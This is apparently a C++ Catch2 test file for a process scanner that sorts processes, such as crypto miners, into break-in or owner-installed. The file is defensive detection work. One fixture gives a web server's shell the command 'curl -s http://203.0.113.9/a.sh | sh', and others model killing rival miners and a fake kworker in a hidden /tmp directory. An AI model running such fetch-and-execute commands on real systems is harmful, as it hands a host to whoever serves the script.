#include "scanner/policy/panel.h"

#include "scanner/io/text_file.h"
#include "places.h"

#include <catch2/catch.hpp>
#include <set>

using namespace scanner;

namespace {

constexpr std::int64_t kSecond = 1'000'000'000;
const std::string kContainer(64, 'a');

Panel shipped() {
  Diagnostics diagnostics;
  auto panel = load_panel("panel.yaml", read_text_file(AUPSCAN_SOURCE_DIR "/config/panel.yaml").value(), diagnostics);
  for (const Diagnostic& diagnostic : diagnostics) UNSCOPED_INFO(to_text(diagnostic));
  REQUIRE(panel);
  return std::move(*panel);
}

std::vector<std::pair<std::string, int>> mistakes(const std::string& text) {
  Diagnostics diagnostics;
  CHECK_FALSE(load_panel("panel.yaml", text, diagnostics));
  std::vector<std::pair<std::string, int>> out;
  for (const Diagnostic& diagnostic : diagnostics) out.emplace_back(diagnostic.code, diagnostic.at.line);
  return out;
}

// A host whose pid 1 started at second 1000.
class Host {
 public:
  Host() { add(1, 0, "/usr/lib/systemd/systemd", {}, 1000); }

  ProcessStarted& make(std::int32_t pid, std::int32_t parent, const std::string& executable, const std::vector<std::string>& arguments = {}, std::int64_t at = 50'000) {
    made = {};
    made.id = {"", at * kSecond, pid};
    made.parent_pid = parent;
    made.executable = executable;
    made.arguments = arguments;
    made.uid = 1000;
    return made;
  }
  ProcessId add() {
    table.learn({{100'000 * kSecond}, made}, {100'000 * kSecond});
    return made.id;
  }
  ProcessId add(std::int32_t pid, std::int32_t parent, const std::string& executable, const std::vector<std::string>& arguments = {}, std::int64_t at = 50'000) {
    make(pid, parent, executable, arguments, at);
    return add();
  }
  PanelResult judge(const ProcessId& id) const { return panel.evaluate(*table.find(id), table); }

  Panel panel = shipped();
  ProcessTable table;
  ProcessStarted made;
};

using Texts = std::vector<std::string>;

}  // namespace

TEST_CASE("the shipped panel has both sides, and an ordinary program fulfils none of it", "[policy]") {
  Host host;
  std::set<bool> sides;
  for (const PanelIndicator& indicator : host.panel.indicators()) sides.insert(indicator.compromise);
  CHECK(sides.size() == 2);
  host.add(50, 1, "/usr/sbin/cron");
  const PanelResult result = host.judge(host.add(51, 50, "/opt/backup/backup", {"backup", "--all"}));
  CHECK(result.compromise == Texts{});
  CHECK(result.wilful == Texts{});
}

TEST_CASE("a web server's shell that pipes a download is told with both facts", "[policy]") {
  Host host;
  host.add(40, 1, "/usr/sbin/nginx");
  host.add(41, 40, "/usr/sbin/php-fpm8.2");
  host.add(42, 41, "/bin/sh", {"sh", "-c", "curl -s http://203.0.113.9/a.sh | sh"});
  const PanelResult result = host.judge(host.add(43, 42, "/tmp/.x/kworker"));
  CHECK(result.compromise == Texts{
                                 "a web server or the program of a site started it: its ancestor 41 is /usr/sbin/php-fpm8.2",
                                 "a script that was fetched from the network was given to a shell: its ancestor 42 was started as `sh -c curl -s http://203.0.113.9/a.sh | sh`",
                                 "it lies where every user may write: it runs from /tmp/.x/kworker",
                                 "it lies in a hidden directory that is no package's: it runs from /tmp/.x/kworker",
                                 "it calls itself what kernel threads are called: it is /tmp/.x/kworker",
                             });
  CHECK(result.wilful == Texts{});
}

TEST_CASE("a database's child, a deleted file, a service's user and rivals that are killed speak for a break-in", "[policy]") {
  Host host;
  host.add(40, 1, "/usr/lib/postgresql/15/bin/postgres");
  host.add(41, 40, "/bin/sh");
  host.add(42, 41, "/usr/bin/pkill", {"pkill", "-f", "xmrig"});
  ProcessStarted& miner = host.make(43, 41, "/var/lib/postgresql/x");
  miner.deleted = true;
  miner.uid = 112;
  const PanelResult result = host.judge(host.add());
  CHECK(result.compromise == Texts{
                                 "a database server started it: its ancestor 40 is /usr/lib/postgresql/15/bin/postgres",
                                 "its file was deleted while it ran: it runs a file that is deleted",
                                 "it runs as a service's user, which nobody logs in as: it runs as uid 112, and it runs in no container",
                                 "other miners were ended beside it: process 42 of the same parent was started as `pkill -f xmrig`",
                             });
  // What is not known speaks for nothing.
  ProcessStarted& hidden = host.make(44, 1, "");
  hidden.deleted = true;
  hidden.uid = 0;
  hidden.unknown = {"executable", "uid", "cgroup"};
  CHECK(host.judge(host.add()).compromise == Texts{});
}

TEST_CASE("an owner who logs in, builds and starts it by hand is told as such", "[policy]") {
  Host host;
  host.add(40, 1, "/usr/sbin/sshd");
  host.make(41, 40, "/bin/bash").terminal = true;
  host.add();
  host.add(42, 41, "/usr/bin/git", {"git", "clone", "https://git.example/xmrig.git"});
  host.make(43, 41, "/home/a/xmrig/build/xmrig", {"./xmrig", "-c", "/home/a/config.json"}).terminal = true;
  const PanelResult result = host.judge(host.add());
  CHECK(result.wilful == Texts{
                             "it was put there by a package manager, or built there: process 42 of the same parent was started as `git clone https://git.example/xmrig.git`",
                             "somebody who had logged in started it by hand: its ancestor 40 is /usr/sbin/sshd, and its ancestor 41 is /bin/bash, and its ancestor 41 has a terminal",
                             "it is given a configuration file in the holder's own directories: it was started as `./xmrig -c /home/a/config.json`",
                         });
  CHECK(result.compromise == Texts{});
  // The same without a terminal is a script's work.
  Host other;
  other.add(40, 1, "/usr/sbin/sshd");
  other.add(41, 40, "/bin/bash");
  CHECK(other.judge(other.add(43, 41, "/srv/x")).wilful == Texts{});
}

TEST_CASE("an interpreter that a package brought says nothing of what it is given", "[policy]") {
  Host host;
  CHECK(host.judge(host.add(60, 1, "/usr/bin/dash", {"sh", "-c", "x"})).wilful == Texts{});
  CHECK(host.judge(host.add(61, 1, "/usr/bin/xmrig", {"xmrig"})).wilful == Texts{"it was put there by a package manager, or built there: it runs from /usr/bin/xmrig"});
}

TEST_CASE("a container's own program, and one that has run since its creation", "[policy]") {
  Host host;
  host.add(40, 1, "/usr/bin/containerd-shim-runc-v2");
  host.make(41, 40, "/app/entry").cgroup = "/docker/" + kContainer;
  const ProcessId entry = host.add();
  CHECK(host.judge(entry).wilful == Texts{"its container was made to run it: it is the program that its container was started for",
                                          "it has run since the host or its container was made: it was started 0 s after its container"});
  host.make(42, 41, "/app/worker", {}, 50'090).cgroup = "/docker/" + kContainer;
  CHECK(host.judge(host.add()).wilful == Texts{"it has run since the host or its container was made: it was started 90 s after its container"});
  host.make(43, 41, "/app/worker", {}, 60'000).cgroup = "/docker/" + kContainer;
  CHECK(host.judge(host.add()).wilful == Texts{});
  CHECK(host.judge(host.add(44, 1, "/srv/x", {}, 1030)).wilful == Texts{"it has run since the host or its container was made: it was started 30 s after the host"});
}

TEST_CASE("every mistake in a panel is told in its place, all at once", "[policy]") {
  const std::string head = "indicators:\n  - {id: a, points_to: wilful, says: x, ";
  CHECK(mistakes("indicator: []\n").size() == 2);
  CHECK(mistakes(head + "none: [{field: memfd}]}\n") == std::vector<std::pair<std::string, int>>{{"P106", 2}});
  CHECK(mistakes(head + "all: [{field: name, is: ['*']}]}\n") == std::vector<std::pair<std::string, int>>{{"P101", 2}});
  CHECK(mistakes(head + "all: [{field: uid}, {field: uid, at_least: 5, at_most: 4}]}\n") == std::vector<std::pair<std::string, int>>{{"P102", 2}, {"P103", 2}});
  CHECK(mistakes(head + "all: [{field: uid, at_least: 5, is: [x]}]}\n").size() == 1);
  CHECK(mistakes(head + "all: [{field: nmae, is: [x]}]}\n").size() == 1);
  CHECK(mistakes(head + "all: []}\n").size() == 2);
  CHECK(mistakes(head + "all: [{field: memfd}]}\n  - {id: a, points_to: both, says: '', any: [{field: memfd, of: child}]}\n").size() == 4);
}

TEST_CASE("an empty panel says nothing", "[policy]") {
  Host host;
  const PanelResult result = Panel().evaluate(*host.table.find(host.add(9, 1, "/tmp/x")), host.table);
  CHECK((result.compromise.empty() && result.wilful.empty()));
}
